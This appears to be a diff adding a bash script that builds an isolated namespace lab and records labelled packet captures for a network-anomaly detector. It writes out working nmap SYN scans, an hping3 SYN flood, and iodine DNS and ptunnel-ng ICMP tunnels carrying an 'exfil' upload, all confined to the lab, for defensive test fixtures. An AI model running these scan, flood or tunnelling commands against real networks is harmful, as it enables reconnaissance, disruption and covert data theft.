@@ -1,0 +1,419 @@
+#!/usr/bin/env bash
+# make-lab-captures.sh — build a small lab network from Linux network
+# namespaces, run real tools in it (nmap, hping3, iodine, ptunnel-ng, dnsmasq,
+# python http.server, sshd, nc), capture each scenario with tcpdump on the lab
+# bridge, and write fixtures/lab/<scenario>.pcap plus <scenario>.truth.json.
+#
+# Run (as root; it apt-get installs what is missing):
+#   sudo bash scripts/lab/make-lab-captures.sh                 # every scenario
+#   sudo bash scripts/lab/make-lab-captures.sh scan-vertical   # one (or several)
+#   sudo bash scripts/lab/make-lab-captures.sh --list          # scenario names
+#   FLOWHOUND_LAB_OUT=/tmp/x sudo -E bash scripts/lab/make-lab-captures.sh ...
+#
+# Scenarios: benign-1 benign-2 benign-3 benign-4 scan-vertical scan-horizontal
+#            rate-spike rate-control dns-tunnel-iodine icmp-tunnel-ptunnel
+#
+# Lab (all inside namespaces named fhlab-*, bridge br0 inside fhlab-sw; nothing
+# is configured in the root namespace and no traffic leaves the lab):
+#   10.77.0.10  client c1          10.77.0.11  client c2
+#   10.77.0.20  web (http :80, :8080; python3 http.server)
+#   10.77.0.30  srv (sshd :22, nc sink :9000, NTP-like UDP :123, UDP sink :5140)
+#   10.77.0.53  resolver (dnsmasq; local data for lab.example, example.{com,org,net};
+#               forwards t.lab.example to 10.77.0.70)
+#   10.77.0.66  scanner            10.77.0.70  iodined (t.lab.example)
+#   10.77.0.71  ptunnel-ng proxy   10.77.0.100-130 farm (live; :23 open on .105 .117 .124)
+#   10.77.0.131-140 dead (static neighbour entries in the scanner only; no host answers)
+#
+# Every step is bounded with `timeout`; the lab is torn down on exit (trap),
+# and an earlier run's leftovers (fhlab-* namespaces) are removed first, so the
+# script is idempotent. Sizes, counts, rates and seeds are fixed, so reruns give
+# comparable captures (timestamps and TCP sequence numbers differ).
+set -euo pipefail
+
+REPO=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
+OUT=${FLOWHOUND_LAB_OUT:-$REPO/fixtures/lab}
+HELPER=$REPO/scripts/lab/lab-helper.py
+PY=/usr/bin/python3
+P=fhlab
+NET=10.77.0
+SNAPLEN=${FLOWHOUND_LAB_SNAPLEN:-256}
+ALL_SCENARIOS=(scan-vertical scan-horizontal rate-spike rate-control benign-1 benign-2 benign-3 benign-4 dns-tunnel-iodine icmp-tunnel-ptunnel)
+RULE_KINDS='["scan.vertical","scan.horizontal","tunnel.dns","tunnel.icmp","rate.spike"]'
+
+log() { printf '[lab %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
+die() { log "ERROR: $*"; exit 1; }
+
+if [[ ${1:-} == --list ]]; then printf '%s\n' "${ALL_SCENARIOS[@]}"; exit 0; fi
+[[ $(id -u) == 0 ]] || die "run as root (network namespaces, raw sockets)"
+
+# ------------------------------------------------------------------ packages
+need_packages() {
+  local missing=()
+  local -A pkg=([nmap]=nmap [hping3]=hping3 [iodine]=iodine [iodined]=iodine [ptunnel-ng]=ptunnel-ng
+    [tcpdump]=tcpdump [tshark]=tshark [capinfos]=wireshark-common [dnsmasq]=dnsmasq-base [sshd]=openssh-server
+    [ssh]=openssh-client [nc]=netcat-openbsd [dig]=bind9-dnsutils [jq]=jq [ping]=iputils-ping [ip]=iproute2)
+  for c in "${!pkg[@]}"; do command -v "$c" >/dev/null 2>&1 || [[ -x /usr/sbin/$c ]] || missing+=("${pkg[$c]}"); done
+  [[ -x $PY ]] || missing+=(python3)
+  if ((${#missing[@]})); then
+    log "installing: ${missing[*]}"
+    apt-get update -qq
+    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${missing[@]}" >/dev/null
+  fi
+}
+
+# ------------------------------------------------------------------ lab plumbing
+WORK=""
+PIDS=()
+CMDS=()      # exact commands of the running scenario, for the truth file
+nsx() { local n=$1; shift; ip netns exec "$P-$n" "$@"; }
+# run in a namespace and record the command line for the truth file
+rec() { CMDS+=("ip netns exec $P-$1 ${*:2}"); }
+spawn() { local n=$1; shift; ip netns exec "$P-$n" "$@" >>"$WORK/$n.log" 2>&1 & PIDS+=($!); }
+
+teardown() {
+  set +e
+  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
+  for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do
+    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill "$pid" 2>/dev/null; done
+  done
+  sleep 0.5
+  for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do
+    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null; done
+    ip netns del "$ns" 2>/dev/null
+  done
+  PIDS=()
+  [[ -n $WORK && -d $WORK ]] && rm -rf "$WORK"
+}
+
+add_host() { # add_host NAME HOSTBYTE [extra addresses...]
+  local n=$1 hb=$2; shift 2
+  ip netns add "$P-$n"
+  ip link add "v-$n" netns "$P-sw" type veth peer name eth0 netns "$P-$n"
+  nsx sw ip link set "v-$n" master br0 up
+  nsx "$n" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+  nsx "$n" ip link set eth0 address "$(printf '02:77:00:00:00:%02x' "$hb")"
+  nsx "$n" ip addr add "$NET.$hb/24" dev eth0
+  for a in "$@"; do nsx "$n" ip addr add "$a/24" dev eth0; done
+  nsx "$n" ip link set lo up
+  nsx "$n" ip link set eth0 up
+}
+
+lab_up() {
+  teardown
+  WORK=$(mktemp -d /tmp/fhlab.XXXXXX)
+  chmod 755 "$WORK"
+  ip netns add "$P-sw"
+  nsx sw sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+  nsx sw ip link add br0 type bridge stp_state 0 forward_delay 0
+  nsx sw ip link set br0 up
+  nsx sw ip link set lo up
+  add_host c1 10; add_host c2 11; add_host web 20; add_host srv 30; add_host dns 53
+  add_host scan 66; add_host tun 70; add_host icmp 71
+  local farm=()
+  for i in $(seq 101 130); do farm+=("$NET.$i"); done
+  add_host farm 100 "${farm[@]}"
+  for i in $(seq 131 140); do # dead targets: frames go out on the bridge, nobody answers
+    nsx scan ip neigh replace "$NET.$i" lladdr "$(printf '02:77:de:ad:00:%02x' "$i")" dev eth0 nud permanent
+  done
+  services_up
+}
+
+services_up() {
+  # web: a static site on :80 and :8080
+  "$PY" "$HELPER" mkweb "$WORK/www"
+  spawn web "$PY" -m http.server 80 --bind "$NET.20" --directory "$WORK/www"
+  spawn web "$PY" -m http.server 8080 --bind "$NET.20" --directory "$WORK/www"
+  # srv: sshd (key login), nc sink, NTP-like UDP, UDP sink (syslog-like control stream)
+  ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_host" -C lab-host
+  ssh-keygen -q -t ed25519 -N '' -f "$WORK/id_lab" -C lab-client
+  cp "$WORK/id_lab.pub" "$WORK/authorized_keys"
+  mkdir -p /run/sshd
+  cat >"$WORK/sshd_config" <<EOF
+Port 22
+ListenAddress $NET.30
+HostKey $WORK/ssh_host
+PermitRootLogin prohibit-password
+AuthorizedKeysFile $WORK/authorized_keys
+PidFile $WORK/sshd.pid
+UsePAM no
+StrictModes no
+PasswordAuthentication no
+EOF
+  spawn srv /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
+  spawn srv nc -lk "$NET.30" 9000
+  spawn srv "$PY" "$HELPER" ntp-server 123
+  spawn srv "$PY" "$HELPER" udp-sink 5140
+  # resolver
+  cat >"$WORK/dnsmasq.conf" <<EOF
+port=53
+listen-address=$NET.53
+bind-interfaces
+no-resolv
+no-hosts
+no-poll
+user=root
+pid-file=$WORK/dnsmasq.pid
+log-facility=$WORK/dnsmasq-queries.log
+local=/lab.example/example.com/example.org/example.net/
+server=/t.lab.example/$NET.70
+host-record=www.lab.example,$NET.20
+host-record=intranet.lab.example,$NET.20
+host-record=wiki.lab.example,$NET.20
+host-record=files.lab.example,$NET.30
+host-record=mail.lab.example,$NET.25
+mx-host=lab.example,mail.lab.example,10
+host-record=www.example.com,$NET.20
+host-record=api.example.com,$NET.20
+host-record=mail.example.com,$NET.25
+mx-host=example.com,mail.example.com,10
+host-record=cdn.example.org,$NET.20
+host-record=www.example.org,$NET.20
+host-record=updates.example.net,$NET.30
+EOF
+  spawn dns dnsmasq -k -C "$WORK/dnsmasq.conf"
+  # farm: a few telnet-like listeners
+  for h in 105 117 124; do spawn farm nc -lk "$NET.$h" 23; done
+  "$PY" "$HELPER" mkfile "$WORK/transfer-40k.bin" 40000 7
+  sleep 1.5
+  local want
+  for want in "web $NET.20:80" "web $NET.20:8080" "srv $NET.30:22" "srv $NET.30:9000" "farm $NET.105:23"; do
+    nsx ${want%% *} ss -ltn | grep -q "${want#* } " || { tail -n 20 "$WORK"/*.log >&2; die "not listening: $want"; }
+  done
+  nsx c1 dig +short +tries=1 +time=2 "@$NET.53" www.lab.example A | grep -q "$NET.20" || die "dnsmasq not answering"
+}
+
+# ------------------------------------------------------------------ capture
+CAP_PID=""
+capture_start() { # capture_start NAME [SNAPLEN]
+  local name=$1 snap=${2:-$SNAPLEN}
+  CMDS=("ip netns exec $P-sw tcpdump -i br0 -s $snap -U -w $name.pcap")
+  rm -f "$WORK/tcpdump.err"
+  ip netns exec "$P-sw" tcpdump -i br0 -s "$snap" -U -Z root -w "$WORK/$name.pcap" 2>"$WORK/tcpdump.err" &
+  CAP_PID=$!
+  for _ in $(seq 50); do grep -q listening "$WORK/tcpdump.err" 2>/dev/null && break; sleep 0.1; done
+  log "capturing $name (snaplen $snap)"
+}
+capture_stop() { # capture_stop NAME
+  local name=$1
+  sleep 1
+  kill -INT "$CAP_PID"; wait "$CAP_PID" || true
+  mkdir -p "$OUT"
+  cp "$WORK/$name.pcap" "$OUT/$name.pcap"
+  log "$name: $(tail -n 3 "$WORK/tcpdump.err" | tr '\n' ' ')"
+}
+
+benign_bg() { # benign_bg SEED DURATION [extra args for client c1]; c2 runs a lighter mix
+  local seed=$1 dur=$2; shift 2
+  local a=(--seed "$seed" --duration "$dur" --web "$NET.20" --dns "$NET.53" --srv "$NET.30")
+  rec c1 "$PY" lab-helper.py benign "${a[@]}" "$@"
+  spawn c1 timeout $((dur + 30)) "$PY" "$HELPER" benign "${a[@]}" "$@"
+  local b=(--seed $((seed + 100)) --duration "$dur" --web "$NET.20" --dns "$NET.53" --srv "$NET.30" --min-pause 3 --max-pause 9 --page-loads 1)
+  rec c2 "$PY" lab-helper.py benign "${b[@]}"
+  spawn c2 timeout $((dur + 30)) "$PY" "$HELPER" benign "${b[@]}"
+  BENIGN_PIDS=("${PIDS[@]: -2}")
+}
+wait_benign() { for p in "${BENIGN_PIDS[@]}"; do wait "$p" || true; done; }
+
+HOSTS_JSON=$(jq -n --arg n "$NET" '{client1:"\($n).10",client2:"\($n).11",web:"\($n).20",server:"\($n).30",resolver:"\($n).53",scanner:"\($n).66",iodineServer:"\($n).70",ptunnelProxy:"\($n).71",farm:"\($n).100-\($n).130",deadTargets:"\($n).131-\($n).140"}')
+
+write_truth() { # write_truth NAME DESCRIPTION TOOL EXPECTED_JSON EXPECT_NONE_JSON CHECKS_JSON [NOTES]
+  local name=$1
+  jq -n --arg path "$OUT/$1.pcap" --arg description "$2" --arg tool "$3" --argjson expected "$4" \
+    --argjson expectNone "$5" --argjson checks "$6" --arg notes "${7:-}" --argjson hosts "$HOSTS_JSON" \
+    --argjson commands "$(printf '%s\n' "${CMDS[@]}" | jq -R . | jq -s .)" \
+    '{path:$path,description:$description,tool:$tool,expected:$expected,expectNone:$expectNone,checks:$checks,hosts:$hosts,commands:$commands} + (if $notes == "" then {} else {notes:$notes} end)' \
+    >"$WORK/$name.spec.json"
+  "$PY" "$HELPER" truth "$WORK/$name.spec.json" >&2
+}
+
+# ------------------------------------------------------------------ scenarios
+scenario_benign() { # benign-N: seeds and lengths vary
+  local n=$1 name=benign-$1 dur extra=()
+  case $n in
+    1) dur=90; extra=(--page-loads 2 --ssh-key "$WORK/id_lab" --transfer "$WORK/transfer-40k.bin" --ping --nxdomain) ;;
+    2) dur=90; extra=(--page-loads 3 --ssh-key "$WORK/id_lab" --min-pause 0.5 --max-pause 4) ;;
+    3) dur=120; extra=(--page-loads 2 --transfer "$WORK/transfer-40k.bin" --ping --min-pause 1.5 --max-pause 6) ;;
+    4) dur=60; extra=(--page-loads 1 --ssh-key "$WORK/id_lab" --nxdomain --min-pause 0.8 --max-pause 3) ;;
+  esac
+  capture_start "$name"
+  benign_bg $((n * 11)) "$dur" "${extra[@]}"
+  wait_benign
+  capture_stop "$name"
+  write_truth "$name" "Benign background only: web page fetches (incl. short page-load bursts of ~30 objects), DNS A/AAAA/MX through dnsmasq, NTP-like UDP, $(printf '%s' "${extra[*]}" | grep -q ssh && echo 'one ssh login, ')$(printf '%s' "${extra[*]}" | grep -q transfer && echo 'one 40 kB nc transfer, ')$(printf '%s' "${extra[*]}" | grep -q ping && echo 'one ping -c 3, ')two clients, ${dur} s. No scans, tunnels or floods." \
+    "python3 lab-helper.py benign (dig, urllib, ssh, nc, ping)" '[]' "$RULE_KINDS" \
+    '[{"name":"synNoAck","filter":"tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"rsts","filter":"tcp.flags.reset==1"},{"name":"dnsQueries","filter":"dns.flags.response==0"},{"name":"nxdomain","filter":"dns.flags.rcode==3"},{"name":"icmpEcho","filter":"icmp.type==8"}]' \
+    "Held-out suggestion: train on benign-1..3, hold out benign-4 (or any split). baseline.deviation is not asserted."
+}
+
+scenario_scan_vertical() {
+  local name=scan-vertical
+  capture_start "$name"
+  benign_bg 21 45 --page-loads 1
+  sleep 10
+  local cmd=(nmap -sS -Pn -n -p 1-1000 --max-rate 200 --max-retries 1 "$NET.20")
+  rec scan "${cmd[@]}"
+  nsx scan timeout 60 "${cmd[@]}" >"$WORK/nmap-vertical.txt" 2>&1 || log "nmap exit $?"
+  wait_benign
+  capture_stop "$name"
+  write_truth "$name" "nmap SYN scan of ports 1-1000 of the web server (10.77.0.20) from the scanner (10.77.0.66), max 200 probes/s, starting ~10 s in, with benign web/DNS/NTP background from two clients. Only 80 is open in that range (8080 is open but outside it)." \
+    "$(nmap --version | head -1) -sS -Pn -n -p 1-1000 --max-rate 200 --max-retries 1" \
+    '[{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.20","port":null}]' \
+    '["scan.horizontal","tunnel.dns","tunnel.icmp"]' \
+    '[{"name":"scannerSyns","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"scannerDistinctPorts","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"tcp.dstport"},{"name":"rstAckFromTarget","filter":"ip.src==10.77.0.20 && ip.dst==10.77.0.66 && tcp.flags.reset==1"},{"name":"synAckFromTarget","filter":"ip.src==10.77.0.20 && ip.dst==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==1"}]' \
+    "The probes go to 1000 different ports (one SYN each), so no (10.77.0.20, port) gets > 20 pps. But nmap uses one source port, so the target's ~200 RST/s all go to (10.77.0.66, that port) for ~5 s (see verified.rateRunsOver20pps): rate.spike is therefore neither expected nor forbidden here. Web page-load bursts to 10.77.0.20:80 exceed 20 pps for at most 2 s."
+  cat "$WORK/nmap-vertical.txt" >&2
+}
+
+scenario_scan_horizontal() {
+  local name=scan-horizontal
+  capture_start "$name"
+  benign_bg 31 45 --page-loads 1
+  sleep 10
+  local cmd=(nmap -sS -Pn -n --send-ip -p 23 --max-rate 100 --max-retries 1 "$NET.100-140")
+  rec scan "${cmd[@]}"
+  nsx scan timeout 60 "${cmd[@]}" >"$WORK/nmap-horizontal.txt" 2>&1 || log "nmap exit $?"
+  wait_benign
+  capture_stop "$name"
+  write_truth "$name" "nmap SYN scan of port 23 across 10.77.0.100-140 (41 targets) from the scanner 10.77.0.66: .100-.130 are live (23 open on .105 .117 .124, RST elsewhere), .131-.140 are dead (no answer; the scanner has static neighbour entries so the SYNs do go out). Benign background from two clients." \
+    "$(nmap --version | head -1) -sS -Pn -n --send-ip -p 23 --max-rate 100 --max-retries 1 10.77.0.100-140" \
+    '[{"kind":"scan.horizontal","src":"10.77.0.66","dst":null,"port":23}]' \
+    '["scan.vertical","tunnel.dns","tunnel.icmp","rate.spike"]' \
+    '[{"name":"scannerSyns","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"scannerDistinctHosts","filter":"ip.src==10.77.0.66 && tcp.dstport==23 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"ip.dst"},{"name":"rstsToScanner","filter":"ip.dst==10.77.0.66 && tcp.flags.reset==1"},{"name":"synAcksToScanner","filter":"ip.dst==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==1"}]'
+  cat "$WORK/nmap-horizontal.txt" >&2
+}
+
+control_stream() { # UDP syslog-like sender from c2 to srv:5140, 10 pps for 30 s
+  local cmd=("$PY" lab-helper.py udp-send "$NET.30" 5140 10 300 120)
+  rec c2 "${cmd[@]}"
+  spawn c2 timeout 45 "$PY" "$HELPER" udp-send "$NET.30" 5140 10 300 120
+  CONTROL_PID=${PIDS[-1]}
+}
+
+scenario_rate_spike() {
+  local name=rate-spike
+  capture_start "$name"
+  benign_bg 41 50 --page-loads 1
+  sleep 5
+  control_stream
+  sleep 15
+  local cmd=(hping3 -q -S -p 8080 -i u10000 -c 800 "$NET.20")
+  rec scan "${cmd[@]}"
+  nsx scan timeout 30 "${cmd[@]}" >"$WORK/hping3.txt" 2>&1 || log "hping3 exit $?"
+  wait "$CONTROL_PID" || true
+  wait_benign
+  capture_stop "$name"
+  write_truth "$name" "hping3 SYN flood from 10.77.0.66 to 10.77.0.20:8080 (an open http port), 800 SYNs at ~100/s (8 s), starting ~20 s in; plus a control stream of UDP datagrams 10.77.0.11 -> 10.77.0.30:5140 at 10 pps for 30 s (must not fire), plus benign background." \
+    "hping3 3.0.0-alpha-2 -S -p 8080 -i u10000 -c 800" \
+    '[{"kind":"rate.spike","src":"10.77.0.66","dst":"10.77.0.20","port":8080}]' \
+    '["scan.vertical","scan.horizontal","tunnel.dns","tunnel.icmp"]' \
+    '[{"name":"floodSyns","filter":"ip.src==10.77.0.66 && ip.dst==10.77.0.20 && tcp.dstport==8080 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"controlDatagrams","filter":"ip.dst==10.77.0.30 && udp.dstport==5140"}]' \
+    "The control stream 10.77.0.30:5140/udp (10 pps) must NOT yield rate.spike. The flood is one source to one port, so it is not a scan."
+  cat "$WORK/hping3.txt" >&2
+}
+
+scenario_rate_control() {
+  local name=rate-control
+  capture_start "$name"
+  benign_bg 51 45 --page-loads 1
+  sleep 5
+  control_stream
+  wait "$CONTROL_PID" || true
+  wait_benign
+  capture_stop "$name"
+  write_truth "$name" "Control only: UDP datagrams 10.77.0.11 -> 10.77.0.30:5140 at 10 pps for 30 s (300 datagrams), plus benign background. Nothing here exceeds 20 pps for 5 s." \
+    "python3 lab-helper.py udp-send 10.77.0.30 5140 10 300 120" '[]' "$RULE_KINDS" \
+    '[{"name":"controlDatagrams","filter":"ip.dst==10.77.0.30 && udp.dstport==5140"}]'
+}
+
+scenario_dns_tunnel() {
+  local name=dns-tunnel-iodine
+  [[ -c /dev/net/tun ]] || { modprobe tun 2>/dev/null || true; mkdir -p /dev/net; [[ -c /dev/net/tun ]] || mknod /dev/net/tun c 10 200; }
+  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" 150000 99
+  local srv=(iodined -f -c -l "$NET.70" -P labsecret -m 1200 192.168.99.1 t.lab.example)
+  spawn tun timeout 120 "${srv[@]}"
+  spawn tun timeout 120 sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received" 2>/dev/null || true
+  sleep 1
+  capture_start "$name" 1600
+  CMDS+=("ip netns exec $P-tun ${srv[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
+  benign_bg 61 60 --page-loads 1 --min-pause 2 --max-pause 6
+  sleep 3
+  local cli=(iodine -f -r -P labsecret -m 1200 "$NET.53" t.lab.example)
+  rec c1 "${cli[@]}"
+  spawn c1 timeout 70 "${cli[@]}"
+  local IOD_PID=${PIDS[-1]}
+  for _ in $(seq 30); do nsx c1 ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99 && break; sleep 1; done
+  nsx c1 ip -4 addr show dns0 | grep -q 192.168.99 || { cat "$WORK/c1.log" >&2; die "iodine tunnel did not come up"; }
+  rec c1 "nc -N -w 5 192.168.99.1 5001 < exfil.bin   # 150000 bytes, seeded random"
+  nsx c1 timeout 50 nc -N -w 5 192.168.99.1 5001 <"$WORK/exfil.bin" || log "nc over iodine exit $?"
+  sleep 2
+  kill "$IOD_PID" 2>/dev/null || true
+  wait_benign
+  capture_stop "$name"
+  log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 150000 bytes"
+  write_truth "$name" "iodine 0.7.0 DNS tunnel: client 10.77.0.10 -> resolver dnsmasq 10.77.0.53 -> iodined 10.77.0.70 (authoritative for t.lab.example), relay mode (-r, no raw UDP), carrying a 150000-byte nc upload through the tunnel; plus benign background from both clients. The bridge sees both legs: client->resolver and resolver->iodined." \
+    "iodine 0.7.0 -f -r -P *** -m 1200 10.77.0.53 t.lab.example; iodined -f -c -l 10.77.0.70 -P *** -m 1200 192.168.99.1 t.lab.example" \
+    '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.53","port":53,"domain":"t.lab.example","leg":"client to resolver"},{"kind":"tunnel.dns","src":"10.77.0.53","dst":"10.77.0.70","port":53,"domain":"t.lab.example","leg":"resolver to iodined (forwarded)"}]' \
+    '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
+    '[{"name":"tunnelQueries","filter":"dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"tunnelQueriesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"uniqueTunnelNamesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\"","distinct":"dns.qry.name"},{"name":"nullQueries","filter":"dns.flags.response==0 && dns.qry.type==10"},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"},{"name":"ipFragments","filter":"ip.flags.mf==1 || ip.frag_offset>0"}]' \
+    "rate.spike is not listed in expectNone: the tunnel's query rate to 10.77.0.53:53 may exceed 20 pps for several seconds (see verified.rateRunsOver20pps); whether that is a spike is the detector's call."
+}
+
+scenario_icmp_tunnel() {
+  local name=icmp-tunnel-ptunnel
+  "$PY" "$HELPER" mkfile "$WORK/icmp-payload.bin" 100000 98
+  nsx icmp sysctl -qw net.ipv4.icmp_echo_ignore_all=1   # the proxy answers echoes itself
+  local srv=(ptunnel-ng -r"$NET.30" -R9000 -v 1)
+  spawn icmp timeout 90 "${srv[@]}"
+  sleep 1
+  capture_start "$name" 1600
+  CMDS+=("ip netns exec $P-icmp sysctl -w net.ipv4.icmp_echo_ignore_all=1" "ip netns exec $P-icmp ${srv[*]}")
+  benign_bg 71 45 --page-loads 1 --min-pause 2 --max-pause 6
+  sleep 3
+  local cli=(ptunnel-ng -p"$NET.71" -l2222 -r"$NET.30" -R9000 -v 1)
+  rec c1 "${cli[@]}"
+  spawn c1 timeout 60 "${cli[@]}"
+  local PT_PID=${PIDS[-1]}
+  sleep 2
+  rec c1 "nc -N -w 5 127.0.0.1 2222 < icmp-payload.bin   # 100000 bytes, seeded random"
+  nsx c1 timeout 40 nc -N -w 5 127.0.0.1 2222 <"$WORK/icmp-payload.bin" || log "nc over ptunnel exit $?"
+  sleep 3
+  kill "$PT_PID" 2>/dev/null || true
+  wait_benign
+  capture_stop "$name"
+  write_truth "$name" "ptunnel-ng 1.41 ICMP tunnel: client 10.77.0.10 (ptunnel-ng -p, listening on 127.0.0.1:2222) -> proxy 10.77.0.71 over ICMP echo request/reply, proxy -> 10.77.0.30:9000 over TCP, carrying a 100000-byte nc upload; plus benign background (incl. possibly one ordinary ping -c 3)." \
+    "ptunnel-ng 1.41 -p10.77.0.71 -l2222 -r10.77.0.30 -R9000" \
+    '[{"kind":"tunnel.icmp","src":"10.77.0.10","dst":"10.77.0.71","port":null}]' \
+    '["scan.vertical","scan.horizontal","tunnel.dns"]' \
+    '[{"name":"tunnelEchoRequests","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.71 && icmp.type==8"},{"name":"tunnelEchoReplies","filter":"ip.src==10.77.0.71 && ip.dst==10.77.0.10 && icmp.type==0"},{"name":"tunnelIcmpOver64Bytes","filter":"(ip.addr==10.77.0.71) && icmp && data.len > 64"},{"name":"proxyTcpToServer","filter":"ip.src==10.77.0.71 && ip.dst==10.77.0.30 && tcp.dstport==9000"}]' \
+    "The ICMP pair's packet rate may exceed 20 pps for several seconds; rate.spike is not asserted either way."
+}
+
+run_scenario() {
+  case $1 in
+    benign-[1-4]) scenario_benign "${1#benign-}" ;;
+    scan-vertical) scenario_scan_vertical ;;
+    scan-horizontal) scenario_scan_horizontal ;;
+    rate-spike) scenario_rate_spike ;;
+    rate-control) scenario_rate_control ;;
+    dns-tunnel-iodine) scenario_dns_tunnel ;;
+    icmp-tunnel-ptunnel) scenario_icmp_tunnel ;;
+    *) die "unknown scenario $1 (try --list)" ;;
+  esac
+}
+
+main() {
+  local scenarios=("$@")
+  ((${#scenarios[@]})) || scenarios=("${ALL_SCENARIOS[@]}")
+  for s in "${scenarios[@]}"; do [[ " ${ALL_SCENARIOS[*]} " == *" $s "* ]] || die "unknown scenario $s (try --list)"; done
+  need_packages
+  trap teardown EXIT
+  trap 'exit 130' INT TERM
+  lab_up
+  for s in "${scenarios[@]}"; do
+    log "=== $s"
+    run_scenario "$s"
+  done
+  log "done: ${scenarios[*]} -> $OUT"
+}
+
+main "$@"
